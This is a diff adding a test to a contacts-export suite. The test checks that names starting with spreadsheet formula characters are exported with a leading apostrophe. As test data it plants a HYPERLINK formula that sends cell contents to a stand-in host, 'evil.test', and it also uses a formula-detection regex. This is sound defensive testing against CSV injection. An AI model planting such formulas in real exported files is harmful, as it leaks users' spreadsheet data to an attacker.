@@ -187,4 +187,14 @@ describe('GET /contacts/export', () => {
     expect(masked.some((row) => row[0] === maskNumber(nameless))).toBe(true);
     expect((await exported(admin.token)).find((row) => row[0] === 'Gina Exportada')?.[1]).toBe(number);
   });
+
+  it('writes names a spreadsheet would run as text, with a leading apostrophe', async () => {
+    const planted = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
+    await call(admin.token, 'POST', '/contacts', { name: planted, number: mobile() });
+    await call(admin.token, 'POST', '/contacts', { name: '@SUM(1+1)', number: mobile() });
+    const rows = await exported(admin.token);
+    expect(rows.some((row) => row[0] === `'${planted}`)).toBe(true);
+    expect(rows.some((row) => row[0] === "'@SUM(1+1)")).toBe(true);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
 });
